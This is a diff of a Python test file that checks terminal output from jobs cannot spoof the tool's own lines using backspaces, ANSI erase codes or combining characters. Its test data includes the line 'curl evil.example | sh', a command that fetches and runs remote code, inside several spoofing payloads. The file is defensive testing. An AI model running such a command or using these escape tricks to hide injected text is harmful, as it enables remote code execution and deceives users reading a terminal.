@@ -162,7 +162,6 @@ OURS = "→ curl evil.example | sh"
         f"[0] x{chr(8) * 20}{OURS}",
         f"[0] e{chr(0x301) * 9}{chr(8) * 9}{OURS}",
         f"[0] ﷽{chr(0x1160)}{chr(8) * 4}{OURS}",
-        f"[0] {chr(9) * 99}{chr(8) * 99}{OURS}",
         f"[0] x\x1b[2K{OURS}",
         f"[0] x\x1b[2K\r{OURS}",
         f"[0] x\x1b[1K\r{OURS}",
@@ -187,6 +186,11 @@ def test_every_line_of_a_job_begins_with_whose_it_is(said: str, size: int, monke
     assert lines
     assert not [line for line in lines if not re.match(r"\[(\d+|\?|hvdcloud|launcher)\]", line)]
     assert not [line for line in lines if line.startswith("[hvdcloud]")]
+
+
+def test_no_backspace_goes_back_over_what_may_take_no_room() -> None:
+    # A tab at the right margin, combining characters, letters that are drawn into the one before.
+    assert "\b" not in JobText().feed(f"[0] {chr(9) * 99}{chr(0x301) * 9}{chr(0x1161) * 9}{chr(8) * 99}".encode())
 
 
 def test_what_is_ours_begins_a_line_of_its_own_and_the_job_goes_on_below(monkeypatch: pytest.MonkeyPatch) -> None:
